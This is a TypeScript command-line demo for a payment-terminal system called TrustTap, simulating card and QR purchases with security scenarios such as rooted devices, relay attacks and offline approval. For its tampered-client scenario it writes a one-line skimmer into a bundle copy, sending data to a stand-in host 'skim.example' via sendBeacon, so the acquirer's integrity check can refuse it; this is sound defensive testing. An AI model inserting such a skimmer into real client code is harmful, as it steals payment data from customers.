// `trusttap demo`: a whole purchase on embedded defaults — the back end on loopback with SQLite
// in a temporary directory, the reference TEE runtime with the signed TAs, a simulated
// contactless card — through the app-facing API (ree/terminal), printing each event and the
// receipt. Exit 0 only when the payment is approved, 1 for any other outcome, 2 for a usage
// error. The temporary directory is removed at exit unless --keep.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { startBackend, type Backend } from '../../backend/http/server.ts';
import { startRuntimeFromBuild, InProcessTeeDriver, DEFAULT_BUILD_DIR, DEV_MANIFEST_PUBLIC_KEY, type TeeRuntime } from '../../tee/index.ts';
import { ScriptedUiProvider, enterPin } from '../../tee/tui/scripted.ts';
import { drawAsText } from '../../tee/tui/eyes.ts';
import type { UiProvider } from '../../tee/tui/provider.ts';
import { TEST_OEM_ROOT, simulatedDevice } from '../../sim/oem/index.ts';
import { MastercardCardSim, SimulatedClock, type SimulatedCard } from '../../sim/cards/index.ts';
import { signedTestTerminalConfig, testConfigSigningKey } from '../../sim/test-terminal-config.ts';
import { loadSignedConfig } from '../../common/emv/signed-config.ts';
import { InProcessTransport } from '../../ree/nfc/in-process.ts';
import { Terminal, currencyOf, formatAmount, type PaymentResult, type PaymentEvent } from '../../ree/terminal/index.ts';
import { failureOf } from '../../ree/terminal/request.ts';
import { BackendError } from '../../ree/attestation/backend-link.ts';
import { measureClientFile } from '../../ree/node/client-bundle.ts';
import { CLIENT_FILE } from '../../common/manifest.ts';
import type { HealthSnapshot } from '../../ree/attestation/collector.ts';
import { trusttap } from '../../proto/gen/ts/trusttap.js';
import { u64 } from '../../backend/util.ts';
import { DEMO_CARDS, CardCounterFile } from '../../sim/demo-cards.ts';
import { SimWallet } from '../../sim/wallet/index.ts';
import { TEST_WALLETS } from '../../backend/issuer-sim/wallet.ts';
import { defineCommand, UsageError, type CommandSpec } from '../args.ts';
import { putAcquirer, checkAcquirerId, DEFAULT_ACQUIRER } from '../../backend/tenants.ts';

const SCENARIOS = ['rooted', 'hooked', 'wrong-pin', 'over-limit', 'card-removed', 'lost-answer', 'offline', 'relay', 'see-phone', 'tampered-client'] as const;

/** --scenario relay: what the relay adds to every exchange with the card (a card far away, its
 *  APDUs carried over a network), on the simulated clock the kernel times relay resistance with. */
const RELAY_DELAY_US = 150_000;
type Scenario = (typeof SCENARIOS)[number] | 'none';

/** Where the simulated cards' counters live between runs against a given back end. */
function defaultCardState(): string {
  return join(process.env.XDG_STATE_HOME || join(homedir(), '.local', 'state'), 'trusttap', 'demo-cards.json');
}

export const spec: CommandSpec = {
  name: 'demo',
  summary: 'a whole purchase on embedded defaults: demo [--card unionpay|visa|mastercard|...] [--qr merchant|consumer] [--amount 12.34] [--currency CNY] [--scenario ...] [--json]',
  options: [
    { name: 'card', value: 'CARD', choices: Object.keys(DEMO_CARDS), help: `the simulated card, and what it gets\n${Object.values(DEMO_CARDS).map((c) => `  ${c.name}: ${c.outcome}`).join('\n')}`, default: 'unionpay' },
    { name: 'amount', value: '12.34', help: 'amount in major units, at most the currency\'s decimals, more than zero', default: "1288.00, above UnionPay's CNY 1000 no-CVM limit: PIN" },
    { name: 'currency', value: 'CODE', help: 'ISO 4217 (card payments: CNY, USD, EUR, GBP, HKD, JPY are configured)', default: 'CNY' },
    { name: 'pin', value: '1234', help: 'what the person types on the trusted keypad', default: "the card's PIN" },
    { name: 'scenario', value: 'NAME', choices: ['none', ...SCENARIOS], help: 'rooted|hooked: the device is not trusted; wrong-pin; over-limit: above the contactless limit;\ncard-removed: the card leaves the field mid-read; lost-answer: the approval is lost and resolved;\noffline: the acquirer goes down, the payment is approved offline and queued in the TEE,\nthen uploaded when it is back (default amount 88.00);\nrelay: the Mastercard card is relayed (+150 ms an exchange): relay resistance flags it, the\nacquirer declines, the next attestation asks for a step-up; see-phone: the mastercard-wallet\nasks its holder to verify on the phone, the second tap pays with CDCVM;\ntampered-client: the app\'s client bundle was altered (a skimmer added): the acquirer refuses it' },
    { name: 'qr', value: 'MODE', choices: ['merchant', 'consumer'], help: "a QR payment instead of the card: merchant-presented (the phone shows the acquirer's\ndynamic code, a simulated wallet pays it) or consumer-presented (the wallet shows a\none-time payment code, the phone scans it); scenarios rooted|hooked" },
    { name: 'wallet', value: 'ID', choices: TEST_WALLETS.map((w) => w.id), help: 'the simulated wallet for --qr', default: 'wallet-cny; wallet-usd for USD' },
    { name: 'isolation', value: 'MODE', choices: ['in-process', 'worker'], help: 'TEE isolation', default: 'in-process' },
    { name: 'backend', value: 'URL', help: 'use a running back end (trusttap serve) instead of starting one; its admin token\nfrom --admin-token or $TRUSTTAP_ADMIN_TOKEN. Can be run again and again: the\ncards\' transaction counters are kept in --card-state' },
    { name: 'admin-token', value: 'TOKEN', help: 'the back office token of --backend', default: '$TRUSTTAP_ADMIN_TOKEN' },
    { name: 'card-state', value: 'FILE', help: "where the simulated cards' transaction counters are kept between runs", default: 'with --backend, $XDG_STATE_HOME/trusttap/demo-cards.json (~/.local/state/…); without, none' },
    { name: 'acquirer', value: 'ID', help: "the acquirer (tenant) whose merchant takes the payment: the embedded back end\nconfigures it as a second acquirer (its own BDK, policy and back-office token, which\ncreates the terminal); with --backend it must exist there (trusttap acquirer add ID)", default: 'default' },
    { name: 'keep', help: 'keep the temporary directory (back end and TEE state) and print where it is' },
    { name: 'json', help: 'only one JSON line on stdout: outcome, reason, masked data' },
  ],
  exitCodes: [[0, 'approved'], [1, 'declined, failed, result unknown or cancelled'], [2, 'usage error']],
  notes: 'Test cards and PINs: sim/README.md; test wallets: sim/wallet/README.md.',
};
export const summary = spec.summary;

function healthy(): HealthSnapshot {
  return {
    rooted: false, debuggerAttached: false, hookingFramework: false, emulator: false, developerOptions: false,
    deviceId: 'demo-android-id', ipAddress: '127.0.0.1', location: { latitude: 31.2304, longitude: 121.4737, accuracyM: 25 },
    osVersion: 'Android 14', appVersion: '0.1.0',
  };
}

/** '12.34' in a currency with `exponent` decimals → minor units, exactly (no floating point). */
export function parseAmount(major: string, alpha: string, exponent: number): number {
  const m = /^(\d+)(?:\.(\d+))?$/.exec(major);
  if (!m) throw new UsageError(`--amount must be a number in major units such as 12.34 (got '${major}')`);
  const frac = m[2] ?? '';
  if (frac.length > exponent) throw new UsageError(`--amount ${major} has more decimals than ${alpha} has (${exponent})`);
  const minor = Number(m[1]) * 10 ** exponent + Number(frac.padEnd(exponent, '0') || '0');
  if (!Number.isSafeInteger(minor) || minor > 999_999_999_999) throw new UsageError(`--amount ${major} is too large`);
  if (minor === 0) throw new UsageError('--amount must be more than zero');
  return minor;
}

/** The demo merchant of an acquirer (EMV 9F16, at most 15 characters; a merchant id is one acquirer's). */
export function demoMerchant(acquirerId: string): string {
  return acquirerId === DEFAULT_ACQUIRER ? 'M-DEMO-0001' : `M-${acquirerId.toUpperCase().replace(/-/g, '').slice(0, 10)}-1`;
}

async function admin(url: string, token: string, path: string, body: Uint8Array) {
  const r = await fetch(`${url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/x-protobuf' }, body: Buffer.from(body) });
  if (r.status !== 201 && r.status !== 200) {
    throw new BackendError(r.status, 0, `back office ${path}: ${r.headers.get('x-trusttap-error') ?? r.statusText}${r.status === 401 ? ' (wrong or missing --admin-token)' : ''}`);
  }
  return new Uint8Array(await r.arrayBuffer());
}

export const run = defineCommand(spec, async ({ opts, flags }) => {
  const json = flags.has('json');
  const scenario = (opts.scenario ?? 'none') as Scenario;
  // Relay resistance is Kernel 2's (Mastercard); See Phone needs the phone wallet.
  const cardName = opts.card ?? (scenario === 'relay' ? 'mastercard' : scenario === 'see-phone' ? 'mastercard-wallet' : 'unionpay');
  const demoCard = DEMO_CARDS[cardName]!;
  if (scenario === 'relay' && demoCard.scheme !== 'mastercard') throw new UsageError('--scenario relay needs a Mastercard card (Kernel 2 relay resistance): --card mastercard');
  if (scenario === 'see-phone' && cardName !== 'mastercard-wallet') throw new UsageError('--scenario see-phone needs the phone wallet: --card mastercard-wallet');
  let currency;
  try { currency = currencyOf(opts.currency ?? 'CNY'); } catch { throw new UsageError(`unknown currency '${opts.currency}' (an ISO 4217 code such as CNY, USD, EUR, GBP, HKD or JPY)`); }
  const amount = parseAmount(opts.amount ?? (scenario === 'over-limit' ? '9999.00' : scenario === 'offline' ? '88.00' : scenario === 'relay' ? '25.00' : '1288.00'), currency.alpha, currency.exponent);
  if (opts.pin !== undefined && !/^\d{4,12}$/.test(opts.pin)) throw new UsageError('--pin is 4 to 12 digits');
  const pin = scenario === 'wrong-pin' ? wrongPin(demoCard.pin) : (opts.pin ?? demoCard.pin);
  const isolation = (opts.isolation ?? 'in-process') as 'in-process' | 'worker';
  const qr = opts.qr as 'merchant' | 'consumer' | undefined;
  if (qr && !['none', 'rooted', 'hooked', 'tampered-client'].includes(scenario)) throw new UsageError(`scenario ${scenario} is for card payments`);
  if (scenario === 'offline' && opts.backend) throw new UsageError('scenario offline stops and restarts the back end: it runs only on the demo\'s own (no --backend)');
  if (qr && opts.card) throw new UsageError('--card is for card payments, --qr pays from a --wallet');
  const walletId = opts.wallet ?? (currency.alpha === 'USD' ? 'wallet-usd' : 'wallet-cny');
  if (opts.backend !== undefined && !/^https?:\/\/[^\s/]+/.test(opts.backend)) throw new UsageError(`--backend must be an http(s) URL such as http://127.0.0.1:8443 (got '${opts.backend}')`);
  const counters = opts['card-state'] ?? (opts.backend ? defaultCardState() : undefined);
  const acquirerId = opts.acquirer ?? DEFAULT_ACQUIRER;
  try { checkAcquirerId(acquirerId); } catch (e) { throw new UsageError(`--acquirer: ${(e as Error).message}`); }

  const say = (line: string) => { if (!json) console.log(line); };
  const work = mkdtempSync(join(tmpdir(), 'trusttap-demo-'));
  const removeWork = () => { if (!flags.has('keep')) rmSync(work, { recursive: true, force: true }); };
  // Ctrl-C in the middle: the temporary directory goes too.
  const onSignal = (sig: NodeJS.Signals) => { removeWork(); process.exit(sig === 'SIGINT' ? 130 : 143); };
  process.once('SIGINT', onSignal);
  process.once('SIGTERM', onSignal);
  say(`TrustTap demo — ${qr ? `QR ${qr}-presented, ${walletId}` : demoCard.label}, ${formatAmount(amount, currency)}${scenario !== 'none' ? `, scenario ${scenario}` : ''}`);
  if (flags.has('keep')) (json ? console.error : console.log)(`  state in ${work} (kept)`);

  let be: Backend | null = null;
  let runtime: TeeRuntime | null = null;
  let terminal: Terminal | null = null;
  let result: PaymentResult;
  const events: PaymentEvent['type'][] = [];
  try {
    // 1. The acquirer back end (or the one given).
    let url = opts.backend?.replace(/\/+$/, '');
    let adminToken = opts['admin-token'] ?? process.env.TRUSTTAP_ADMIN_TOKEN ?? '';
    const backendOptions = {
      dataDir: join(work, 'backend'), port: 0, sweepIntervalMs: 0,
      oemRoots: [{ name: TEST_OEM_ROOT.name, publicKey: TEST_OEM_ROOT.publicKey }],
      manifestKeyPem: readFileSync(DEV_MANIFEST_PUBLIC_KEY),
      manifests: [{ bytes: new Uint8Array(readFileSync(join(DEFAULT_BUILD_DIR, 'manifest.json'))), signature: readFileSync(join(DEFAULT_BUILD_DIR, 'manifest.sig'), 'utf8') }],
    };
    if (!url) {
      be = await startBackend(backendOptions);
      url = be.url;
      adminToken = be.adminToken;
      say(`  back end on ${url} (SQLite, software HSM)`);
      if (scenario === 'offline') {
        // The acquirer's policy allows offline acceptance: per payment, in all, how many, how old.
        const per = 10 ** currency.exponent * 200, all = 10 ** currency.exponent * 500;
        await be.service.updatePolicy({
          ...be.service.currentPolicy(), offlineMaxCount: 5, offlineMaxAgeMs: u64(24 * 3_600_000),
          offlineLimits: [{ currency: currency.numeric.padStart(3, '0'), perTransactionLimitMinor: u64(per), cumulativeLimitMinor: u64(all) }],
        });
        say(`  offline policy: up to ${formatAmount(per, currency)} a payment, ${formatAmount(all, currency)} and 5 payments in all, none older than 24 h`);
      }
    }
    // The terminal is created by its acquirer's back office: a second acquirer's own token on the
    // embedded back end; with --backend, the token given (the admin token, or that acquirer's).
    let terminalToken = adminToken;
    if (acquirerId !== DEFAULT_ACQUIRER && be) {
      const made = await putAcquirer(be.service.repo, { acquirerId, name: `Acquirer ${acquirerId}`, newToken: true }, Date.now());
      terminalToken = made.token!;
      say(`  acquirer ${acquirerId} configured beside the default one: its own BDK (HSM namespace acq.${acquirerId}), policy, limits and back-office token`);
    }

    // 2. The phone: a provisioned TEE (simulated OEM key) running the signed TAs, a scripted
    //    person at the trusted keypad, a simulated card at the NFC antenna.
    const deviceDir = join(work, 'device');
    const device = simulatedDevice(deviceDir);
    const person = new ScriptedUiProvider();
    // The simulated trusted display: draws the pinpad TA's own pixels (it is given no labels) for
    // the person to read; the keypad's order is new for every entry and says nothing of the PIN.
    const display: UiProvider = {
      open: (screen, sink) => {
        const art = drawAsText(screen, 3);
        if (art) say(`     trusted display (${screen.title}; the TA drew the keys):\n${art.split('\n').map((l) => `       ${l}`).join('\n')}`);
        return person.open(screen, sink);
      },
    };
    runtime = await startRuntimeFromBuild({ dataDir: deviceDir, isolation, bootState: device.bootState, ui: { standard: display } });
    const health = healthy();
    const counterFile = counters ? new CardCounterFile(counters) : null;
    const atc = counterFile?.atc(demoCard.pan);
    // A Mastercard card answers relay resistance on a simulated clock the kernel reads too; in
    // the relay scenario every exchange takes RELAY_DELAY_US longer.
    const clock = new SimulatedClock();
    const rrp = demoCard.scheme === 'mastercard' ? { relayResistance: { clock, addedDelayUs: scenario === 'relay' ? RELAY_DELAY_US : 0 } } : {};
    const card: SimulatedCard = demoCard.make({ ...rrp, ...(scenario === 'card-removed' ? { tearAtIns: 0xb2 } : {}), ...(atc !== undefined ? { atc } : {}) });
    const nfc = new InProcessTransport(card);
    const config = loadSignedConfig(signedTestTerminalConfig(), testConfigSigningKey().publicKey);
    // The app's client measures the bundle it runs (ree/node measureClientFile: SHA-256 of the
    // file's bytes under the signed manifest's release). tampered-client: a skimmer was appended.
    let bundle = join(DEFAULT_BUILD_DIR, CLIENT_FILE);
    if (scenario === 'tampered-client') {
      bundle = join(work, 'trusttap-client.js');
      writeFileSync(bundle, Buffer.concat([readFileSync(join(DEFAULT_BUILD_DIR, CLIENT_FILE)), Buffer.from(';/* injected */globalThis.__skim=(d)=>navigator.sendBeacon("https://skim.example/",d);\n')]));
    }
    const client = measureClientFile(join(DEFAULT_BUILD_DIR, 'manifest.json'), bundle);
    say(`  the app's client: ${client.name} ${client.version}, bundle sha256 ${Buffer.from(client.sha256).toString('hex').slice(0, 16)}…${scenario === 'tampered-client' ? ' (ALTERED: code injected into the bundle)' : ''}`);
    terminal = await Terminal.open({ tee: new InProcessTeeDriver(runtime), backendUrl: url, health: () => health, kernelConfig: config, nfc, clock, client });

    try {
      const cap = await terminal.checkCapability();
      say(`1. capability: contactless ${cap.contactless ? 'yes' : 'no'}, PIN on trusted UI ${cap.pin ? 'yes' : 'no'}, keys in the ${cap.keyStorage.toUpperCase()}`);

      if (be) {
        // The acquirer allows the REE client release the signed build names (issue 16 §2); a
        // running back end given with --backend keeps its own list (trusttap client allow).
        const manifestDir = DEFAULT_BUILD_DIR;
        const allowed = trusttap.attest.v1.ClientRelease.decode(await admin(url, terminalToken, `/v1/admin/clients?acquirer=${encodeURIComponent(acquirerId)}`, trusttap.attest.v1.AllowClientRequest.encode({
          manifest: new Uint8Array(readFileSync(join(manifestDir, 'manifest.json'))), manifestSignature: readFileSync(join(manifestDir, 'manifest.sig'), 'utf8'), reason: 'the demo\'s release',
        }).finish()));
        say(`  allowed client ${allowed.name} ${allowed.version} (sha256 ${Buffer.from(allowed.sha256).toString('hex').slice(0, 16)}…, from the signed manifest)`);
      }
      const t = trusttap.attest.v1.CreateTerminalResponse.decode(await admin(url, terminalToken, `/v1/admin/terminals?acquirer=${encodeURIComponent(acquirerId)}`,
        trusttap.attest.v1.CreateTerminalRequest.encode({ merchantId: demoMerchant(acquirerId), terminalId: `T${Date.now().toString(36).slice(-7).toUpperCase()}` }).finish()));
      const enrolled = await terminal.enroll(t.activationCode).catch(async (e: unknown) => {
        if (e instanceof BackendError && e.code === trusttap.attest.v1.ErrorCode.ERROR_CLIENT_REFUSED) {
          say(`2. enrolment refused: the acquirer refused the client (${e.clientRefusalName})`);
          // What the acquirer's monitoring kept: the rule in the device's history (and a THREAT_ALERT).
          const h = await fetch(`${url}/v1/admin/devices/${t.deviceId}/history`, { headers: { authorization: `Bearer ${adminToken}` } });
          if (h.ok) {
            const rule = trusttap.attest.v1.HistoryResponse.decode(new Uint8Array(await h.arrayBuffer())).entries.find((x) => x.kind === 'rule');
            if (rule) say(`   acquirer monitoring (device ${t.deviceId}): THREAT_ALERT — ${rule.detail}`);
          }
        }
        throw e;
      });
      say(`2. enrolled as ${enrolled.deviceId} (acquirer ${acquirerId}, merchant ${enrolled.merchantId}, terminal ${enrolled.terminalId}); DUKPT key injected, KCV ${enrolled.keyCheckValues[0]}`);

      if (scenario === 'rooted') health.rooted = true;
      if (scenario === 'hooked') health.hookingFramework = true;
      try {
        const ready = await terminal.prepare();
        say(`3. prepared: attestation ALLOW, ${ready.transactionsLeft.toLocaleString('en')} DUKPT transactions left`);
      } catch (e) {
        say(`3. prepare refused: ${(e as Error).message}`);
      }

      if (scenario === 'offline' && be) {
        await be.close();
        say('   the acquirer goes down (back end stopped): the next payment cannot reach it');
      }

      if (qr) {
        result = await qrPayment(qr, terminal, url, adminToken, walletId, amount, currency.alpha, events, say);
      } else {
        person.enqueue(enterPin(pin));
        if (scenario === 'lost-answer') dropFirstAuthorizeAnswer();
        const clientTransactionId = `demo-${Date.now().toString(36)}`;
        const payment = terminal.startPayment({ amount, currency: currency.alpha, clientTransactionId });
        say('4. payment:');
        for await (const e of payment.events) {
          events.push(e.type);
          say(`   · ${describe(e)}`);
          if (e.type === 'card-requested') {
            if (scenario === 'relay') say(`     (the card is not at this phone: a relay carries its APDUs, +${RELAY_DELAY_US / 1000} ms each)`);
            setTimeout(() => nfc.tap(), 10); // the customer taps
          }
          if (e.type === 'see-phone' && card instanceof MastercardCardSim) {
            // The customer unlocks the wallet on their phone (passcode or biometric), taps again.
            say('     (the customer verifies on their phone and taps again)');
            card.verifyOnDevice();
            setTimeout(() => nfc.tap(), 10);
          }
          if (e.type === 'card-read') nfc.remove();
          if (e.type === 'pin-requested') say(`     (the person reads the keypad on the trusted display and types ${'*'.repeat(pin.length)})`);
        }
        result = await payment.result;
        if (scenario === 'relay') {
          // The phone's next attestation carries the relay it saw (REE health signals).
          try {
            await terminal.prepare();
            say('   · attestation after the relay: ALLOW');
          } catch (e) {
            say(`   · attestation after the relay: ${(e as Error).message}`);
          }
        }
        if (result.outcome === 'result-unknown') {
          say(`   · the answer was lost: ${result.remedy}`);
          restoreFetch();
          result = await terminal.resolve(result.clientTransactionId);
          say('   · resolved from the acquirer\'s journal');
        }
        if (scenario === 'offline' && result.outcome === 'approved-offline') {
          say(`   · ${summaryOf(result)}`);
          printReceipt(result, say);
          const port = Number(new URL(url).port);
          be = await startBackend({ ...backendOptions, port });
          say(`   the acquirer is back on ${url}; prepare() uploads the queue`);
          terminal.onOfflineUpload((e) => say(`   · offline queue uploaded: ${e.results.map((r) => `${'receipt' in r ? r.receipt.clientTransactionId : ''} ${r.outcome.toUpperCase()}`).join(', ')}; ${e.remaining} still queued`));
          await terminal.prepare();
          result = await terminal.resolve(clientTransactionId);
          say('   · resolved from the acquirer\'s journal after the upload');
        }
      }
    } finally {
      counterFile?.save(demoCard.pan, card, atc);
    }
  } catch (e) {
    // The back end refusing or unreachable, the TEE failing: a typed failure, not a stack.
    const f = failureOf(e, 'run the demo again');
    if (!f) throw e;
    result = f;
  } finally {
    restoreFetch();
    await terminal?.close().catch(() => undefined);
    runtime?.shutdown();
    await be?.close();
    removeWork();
    process.off('SIGINT', onSignal);
    process.off('SIGTERM', onSignal);
  }

  if (json) {
    console.log(JSON.stringify({ outcome: result.outcome, reason: reasonOf(result), scenario, acquirer: acquirerId, ...(qr ? { qr, wallet: walletId } : { card: cardName }), amount, currency: currency.alpha, events, ...detailsOf(result) }));
  } else {
    say(`5. ${summaryOf(result)}`);
    printReceipt(result, say);
  }
  return result.outcome === 'approved' ? 0 : 1;
});

/** A QR payment through the app API, with a simulated customer wallet on the other side. */
async function qrPayment(mode: 'merchant' | 'consumer', terminal: Terminal, url: string, adminToken: string, walletId: string, amount: number, currency: string,
  events: PaymentEvent['type'][], say: (line: string) => void): Promise<PaymentResult> {
  const wallet = await SimWallet.login(url, adminToken, walletId);
  say(`   the customer's wallet ${walletId} (${wallet.maskedAccount}), provisioned by the simulated issuer`);
  const clientTransactionId = `demo-qr-${Date.now().toString(36)}`;
  let payment;
  if (mode === 'merchant') {
    payment = terminal.startQrPayment({ mode: 'merchant-presented', amount, currency, clientTransactionId, pollIntervalMs: 100 });
  } else {
    const code = await wallet.paymentCode();
    say(`   the wallet shows a one-time payment code (EMVCo CPM, valid until ${new Date(code.expiresMs).toISOString()}); the phone scans it`);
    payment = terminal.startQrPayment({ mode: 'consumer-presented', code: code.cpm, amount, currency, clientTransactionId });
  }
  say('4. QR payment:');
  for await (const e of payment.events) {
    events.push(e.type);
    say(`   · ${describe(e)}`);
    if (e.type === 'qr-displayed') {
      // The customer scans the code with the wallet (CRC checked there) and pays.
      setTimeout(() => {
        wallet.pay(e.payload).then((p) => say(`   · the wallet paid ${p.merchantName}: ${p.result.reasonText}`), (err: Error) => say(`   · the wallet could not pay: ${err.message}`));
      }, 10);
    }
  }
  return payment.result;
}

function wrongPin(p: string): string {
  return p.split('').map((d) => String((Number(d) + 1) % 10)).join('');
}

function describe(e: PaymentEvent): string {
  switch (e.type) {
    case 'qr-displayed': return `QR code shown (reference ${e.reference}, until ${new Date(e.expiresMs).toISOString()}): ${e.payload}`;
    case 'card-requested': return 'present card';
    case 'card-presented': return 'card presented';
    case 'card-read': return 'card read — remove card';
    case 'see-phone': return `see phone: the customer verifies on their phone, then taps again (tap ${e.tap})`;
    case 'pin-requested': return 'enter PIN on the trusted keypad';
    case 'pin-entered': return 'PIN entered (encrypted in the TEE)';
    case 'processing': return 'processing (signed by the TEE; sent to the acquirer, or queued when it cannot be reached)';
  }
}

function printReceipt(result: PaymentResult, say: (line: string) => void): void {
  if (!('receipt' in result)) return;
  const r = result.receipt;
  say('   ┌──────────────────────────────────────────────');
  say(`   │ ${r.application} ${r.maskedPan}   ${r.aid}`);
  say(`   │ ${r.type.toUpperCase()}  ${formatAmount(r.amount, currencyOf(r.currency))}`);
  say(`   │ merchant ${r.merchantId}  terminal ${r.terminalId}`);
  say(`   │ ref ${r.transactionReference || '—'}  auth ${r.authorizationCode || '—'}  rc ${r.responseCode}`);
  const what = result.outcome === 'approved' ? 'APPROVED' : result.outcome === 'approved-offline' ? 'APPROVED OFFLINE (to be uploaded)' : result.outcome === 'reversed' ? 'REVERSED' : `DECLINED (${(result as { reason: string }).reason})`;
  say(`   │ ${what}  ${new Date(r.timestampMs).toISOString()}`);
  say('   └──────────────────────────────────────────────');
}

function reasonOf(r: PaymentResult): string {
  switch (r.outcome) {
    case 'approved': return 'APPROVED';
    case 'approved-offline': return 'APPROVED_OFFLINE';
    case 'declined': return r.reason;
    case 'failed': return r.code;
    case 'result-unknown': return 'RESULT_UNKNOWN';
    case 'cancelled': return 'CANCELLED';
    case 'reversed': return 'REVERSED';
  }
}

function summaryOf(r: PaymentResult): string {
  switch (r.outcome) {
    case 'approved': return 'APPROVED';
    case 'approved-offline': return 'APPROVED OFFLINE — the acquirer was unreachable; signed and queued in the TEE under the offline policy';
    case 'declined': return `DECLINED: ${r.reason} — ${r.reasonText}`;
    case 'failed': return `FAILED: ${r.code} — ${r.message}. Remedy: ${r.remedy}`;
    case 'result-unknown': return `RESULT UNKNOWN — ${r.remedy}`;
    case 'cancelled': return 'CANCELLED';
    case 'reversed': return `REVERSED (approved, then reversed at ${new Date(r.reversedMs).toISOString()}; no money moved)`;
  }
}

function detailsOf(r: PaymentResult): Record<string, unknown> {
  if ('receipt' in r) return { merchantId: r.receipt.merchantId, maskedPan: r.receipt.maskedPan, application: r.receipt.application, authorizationCode: r.receipt.authorizationCode, responseCode: r.receipt.responseCode, transactionReference: r.receipt.transactionReference, cvm: r.receipt.cvm };
  if (r.outcome === 'failed') return { message: r.message, remedy: r.remedy, ...(r.httpStatus !== undefined ? { httpStatus: r.httpStatus } : {}) };
  return {};
}

// "lost-answer": the first authorization reaches the acquirer, but its answer never reaches the
// phone (a dropped connection), as a real network loses it.
const realFetch = globalThis.fetch;
function dropFirstAuthorizeAnswer(): void {
  let dropped = false;
  globalThis.fetch = (async (input: Parameters<typeof fetch>[0], init?: Parameters<typeof fetch>[1]) => {
    const res = await realFetch(input, init);
    if (!dropped && String(input).endsWith('/v1/device/authorize')) {
      dropped = true;
      await res.arrayBuffer();
      throw new TypeError('fetch failed: connection reset before the answer arrived');
    }
    return res;
  }) as typeof fetch;
}
function restoreFetch(): void {
  globalThis.fetch = realFetch;
}
